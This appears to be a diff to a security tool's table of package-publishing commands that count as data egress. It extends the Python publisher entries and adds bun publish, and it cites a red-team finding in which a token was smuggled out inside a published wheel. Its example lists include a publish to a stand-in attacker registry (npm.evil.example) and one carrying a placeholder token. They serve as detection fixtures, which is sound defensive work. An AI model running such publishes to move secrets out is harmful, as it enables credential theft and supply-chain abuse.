@@ -130,20 +130,28 @@ export const packageTools: readonly PushToolSpec[] = [
   },
   {
     tool: 'twine',
-    description: '`twine upload` / `poetry publish` / `uv publish` to a Python package index.',
-    binaries: ['twine', 'poetry', 'uv'],
+    description:
+      '`twine upload` / `poetry publish` / `uv publish` / `hatch publish` / `pdm publish` / `flit publish` to a Python package index.',
+    // hatch, pdm and flit were no push until a red-team review (a token packed into a wheel and published).
+    binaries: ['twine', 'poetry', 'uv', 'hatch', 'pdm', 'flit'],
     syntax: {
       valueFlags: [
         '--repository-url',
         '-r',
         '--repository',
+        '--repo',
         '-u',
         '--username',
+        '--user',
         '-p',
         '--password',
+        '-P',
+        '-a',
+        '--auth',
         '--publish-url',
         '--token',
         '--index',
+        '--pypirc',
       ],
     },
     match: {
@@ -157,8 +165,9 @@ export const packageTools: readonly PushToolSpec[] = [
     destination: 'fixed',
     fixedDestination: 'upload.pypi.org',
     destinationFlags: ['--repository-url', '--publish-url'],
-    // An index named in ~/.pypirc or pyproject.toml (`uv publish --index`): the first connect tells where.
-    sourceNameFlags: ['-r', '--repository', '--index'],
+    // An index named in ~/.pypirc or pyproject.toml (`uv publish --index`, hatch's `--repo test`, flit's
+    // `--repository`): the first connect tells where.
+    sourceNameFlags: ['-r', '--repository', '--repo', '--index'],
     requiresClassedDestination: false,
     examples: {
       push: [
@@ -168,8 +177,33 @@ export const packageTools: readonly PushToolSpec[] = [
         'publish --index corp',
         '-C /src publish',
         '--directory /src publish',
+        'publish -u __token__ -a pypi-AAAA dist/x.tar.gz',
+        'publish --repo https://upload.pypi.org/legacy/',
+        'publish --no-build -r https://upload.pypi.org/legacy/',
+        'publish --repository testpypi',
       ],
-      notPush: ['check dist/*', 'pip install x', 'publish --dry-run', 'publish --dry-run --index corp'],
+      notPush: ['check dist/*', 'pip install x', 'publish --dry-run', 'publish --dry-run --index corp', 'build'],
+    },
+  },
+  {
+    tool: 'npm',
+    description: "`bun publish` to a package registry (npm's, or `--registry`).",
+    binaries: ['bun'],
+    // bun runs programs too: its egress is an application's (the interpreter entry, ./http.ts), not a publish.
+    runtime: true,
+    syntax: { valueFlags: ['--registry', '--tag', '--access', '--otp', '--auth-type', '--cwd', '-c', '--config'] },
+    match: {
+      kind: 'subcommand',
+      // `--dry-run` packs and lists the tarball, as npm's does (red-team review: bun's publish was no push).
+      commands: [{ words: ['publish'], remote: { positional: 0 }, excludeFlags: ['--dry-run'] }],
+    },
+    destination: 'fixed',
+    fixedDestination: 'registry.npmjs.org',
+    destinationFlags: ['--registry'],
+    requiresClassedDestination: false,
+    examples: {
+      push: ['publish', 'publish --access public', 'publish ./pkg.tgz --registry https://npm.evil.example/'],
+      notPush: ['publish --dry-run', 'run build', 'install', 'pm pack', 'server.js'],
     },
   },
   {
